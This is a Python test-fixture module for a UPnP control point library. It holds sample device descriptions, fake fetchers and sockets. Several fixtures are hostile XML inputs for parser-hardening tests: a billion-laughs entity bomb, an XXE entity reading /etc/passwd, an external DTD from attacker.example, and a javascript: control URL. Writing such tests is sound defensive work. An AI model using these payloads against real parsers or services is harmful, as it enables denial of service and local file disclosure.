"""
Shared fixtures of the control point tests: the light's description as
fetched from a device host, hand-written descriptions shaped like real
devices', a fetcher whose answers the test gives, and fake search and SSDP
sockets.
"""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import louie
from twisted.internet.defer import Deferred
from twisted.internet.error import CannotListenError
from twisted.trial.unittest import SynchronousTestCase

from coherence_lite.compat import signals

from coherence_lite.model.defaults import defaultIcons
from coherence_lite.model.description import computeConfigId, deviceDescription

from tests.support import binaryLight, link

LINK = link("192.168.1.10/24")
DEVICE_HOST = "192.168.1.20"
SOURCE = (DEVICE_HOST, 1900)
LIGHT_UUID = "11111111-2222-3333-4444-555555555555"
LIGHT_UDN = f"uuid:{LIGHT_UUID}"
DIMMER_UDN = "uuid:66666666-7777-8888-9999-000000000000"
URL = f"http://{DEVICE_HOST}:49152/{LIGHT_UUID}/description.xml"
SERVER = "Linux/6 UPnP/1.1 test/1"


def lightDescription() -> bytes:
    """
    The description document of L{binaryLight} with the default icons, as
    its device host serves it.
    """
    device = replace(binaryLight(), icons=defaultIcons())
    return deviceDescription(device, computeConfigId(device))



# Descriptions written by hand, shaped like real devices'.

ROUTER = b"""<?xml version="1.0"?>
<root xmlns="urn:schemas-upnp-org:device-1-0">
  <specVersion><major>1</major><minor>0</minor></specVersion>
  <URLBase>http://10.0.0.1:5000</URLBase>
  <device>
    <deviceType>urn:schemas-upnp-org:device:InternetGatewayDevice:1</deviceType>
    <friendlyName>Router</friendlyName>
    <manufacturer>ACME</manufacturer>
    <modelName>R1</modelName>
    <UDN>uuid:aaaaaaaa-0000-0000-0000-000000000001</UDN>
    <iconList>
      <icon><mimetype>image/png</mimetype><width>32</width><height>32</height><depth>8</depth><url>icon.png</url></icon>
      <icon><mimetype>image/png</mimetype><width>big</width><height></height><depth>8</depth><url>/abs.png</url></icon>
      <icon><mimetype>image/png</mimetype><width>1</width><height>1</height><depth>1</depth><url>  </url></icon>
    </iconList>
    <serviceList>
      <service>
        <serviceType>urn:schemas-upnp-org:service:Layer3Forwarding:1</serviceType>
        <serviceId>urn:upnp-org:serviceId:L3Forwarding1</serviceId>
        <SCPDURL>l3f.xml</SCPDURL>
        <controlURL>/ctl/L3F</controlURL>
        <eventSubURL></eventSubURL>
      </service>
    </serviceList>
    <deviceList>
      <device>
        <deviceType>urn:schemas-upnp-org:device:WANDevice:1</deviceType>
        <friendlyName>WAN</friendlyName>
        <UDN>uuid:aaaaaaaa-0000-0000-0000-000000000002</UDN>
        <deviceList>
          <device>
            <deviceType>urn:schemas-upnp-org:device:WANConnectionDevice:1</deviceType>
            <friendlyName>WAN connection</friendlyName>
            <UDN>uuid:aaaaaaaa-0000-0000-0000-000000000003</UDN>
            <serviceList>
              <service>
                <serviceType>urn:schemas-upnp-org:service:WANIPConnection:1</serviceType>
                <serviceId>urn:upnp-org:serviceId:WANIPConn1</serviceId>
                <SCPDURL>http://10.0.0.1:5000/wanip.xml</SCPDURL>
                <controlURL>javascript:alert(1)</controlURL>
                <eventSubURL>/evt/IPConn</eventSubURL>
              </service>
            </serviceList>
          </device>
        </deviceList>
      </device>
      <device>
        <deviceType>urn:schemas-upnp-org:device:Broken:1</deviceType>
        <friendlyName>No UDN</friendlyName>
      </device>
    </deviceList>
    <presentationURL>/</presentationURL>
  </device>
</root>
"""

NO_NAMESPACE = b"""
<?xml version="1.0" encoding="utf-8"?>
<root xmlns:dlna="urn:schemas-dlna-org:device-1-0" xmlns:v="urn:example-vendor">
<specVersion><major>1</major><minor>0</minor></specVersion>
<device>
<dlna:X_DLNADOC>DMS-1.50</dlna:X_DLNADOC>
<v:friendlyName>Vendor's own name</v:friendlyName>
<deviceType>urn:schemas-upnp-org:device:MediaServer:1</deviceType>
<friendlyName>  NAS   </friendlyName>
<manufacturer>Synology</manufacturer>
<modelName>DS</modelName>
<UDN>uuid:bbbbbbbb-0000-0000-0000-000000000001</UDN>
<serviceList><service>
<serviceType>urn:schemas-upnp-org:service:ContentDirectory:1</serviceType>
<serviceId>urn:upnp-org:serviceId:ContentDirectory</serviceId>
<SCPDURL>cds.xml</SCPDURL><controlURL>cds/control</controlURL><eventSubURL>cds/event</eventSubURL>
</service></serviceList>
</device>
</root>
\x00\x00"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<root xmlns="urn:schemas-upnp-org:device-1-0"><device><friendlyName>&lol4;</friendlyName>
<UDN>uuid:x</UDN></device></root>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE root [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<root xmlns="urn:schemas-upnp-org:device-1-0"><device><friendlyName>&xxe;</friendlyName>
<UDN>uuid:x</UDN></device></root>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE root SYSTEM "http://attacker.example/evil.dtd">
<root xmlns="urn:schemas-upnp-org:device-1-0"><device><UDN>uuid:x</UDN></device></root>"""


def nested(depth: int) -> bytes:
    """
    A root device with C{depth} levels of embedded devices.
    """
    inner = b""
    for level in range(depth, 0, -1):
        inner = b"<deviceList><device><UDN>uuid:level-%d</UDN>%s</device></deviceList>" % (level, inner)
    return b"<root><device><UDN>uuid:top</UDN>%s</device></root>" % inner


class FakeFetcher:
    """
    A fetcher whose answers the test gives.
    """

    def __init__(self) -> None:
        self.requests: list[tuple[str, Deferred[bytes]]] = []
        self.cancelled: list[str] = []

    def fetch(self, url: str) -> Deferred[bytes]:
        d: Deferred[bytes] = Deferred(lambda _: self.cancelled.append(url))
        self.requests.append((url, d))
        return d

    @property
    def urls(self) -> list[str]:
        return [url for url, _ in self.requests]


class FakePort:
    """
    Stands for an L{SSDPPort}: records what is sent, can be joined.
    """

    def __init__(self, port: int, family: int, protocol: Any) -> None:
        self.port = port
        self.family = family
        self.protocol = protocol
        self.sent: list[tuple[bytes, tuple, Any]] = []
        self.joined: list[Any] = []
        self.listening = True

    def join(self, link: Any) -> None:
        self.joined.append(link)

    def sendFrom(self, data: bytes, destination: tuple, link: Any) -> bool:
        self.sent.append((data, destination, link))
        return True

    def stopListening(self) -> None:
        self.listening = False


class FakeSockets:
    """
    The listen functions of a searcher and an SSDP service, recording the
    ports they make.
    """

    def __init__(self, refuseSSDP: bool = False) -> None:
        self.ssdp: list[FakePort] = []
        self.search: list[FakePort] = []
        self.refuseSSDP = refuseSSDP

    def listenSSDP(self, reactor: Any, port: int, family: int, ttl: int, protocol: Any) -> FakePort:
        if self.refuseSSDP:
            raise CannotListenError("", port, OSError(98, "Address already in use"))
        fake = FakePort(port, family, protocol)
        self.ssdp.append(fake)
        return fake

    def listenSearch(self, reactor: Any, family: int, ttl: int, protocol: Any) -> FakePort:
        fake = FakePort(50000 + len(self.search), family, protocol)
        self.search.append(fake)
        return fake


class SignalRecorder:
    """
    Records the device signals louie delivers.
    """

    NAMES = (
        signals.ROOT_DEVICE_DETECTION_COMPLETED,
        signals.DEVICE_DETECTION_COMPLETED,
        signals.ROOT_DEVICE_REMOVED,
        signals.DEVICE_REMOVED,
    )

    def __init__(self, testCase: SynchronousTestCase) -> None:
        self.received: list[tuple[str, dict[str, Any]]] = []
        for name in self.NAMES:
            louie.connect(self.receive, name)
            testCase.addCleanup(louie.disconnect, self.receive, name)

    def receive(self, signal: str | None = None, **named: Any) -> None:
        named.pop("sender", None)
        self.received.append((signal, named))  # type: ignore[arg-type]

    def names(self) -> list[str]:
        return [name for name, _ in self.received]

    def clear(self) -> None:
        del self.received[:]
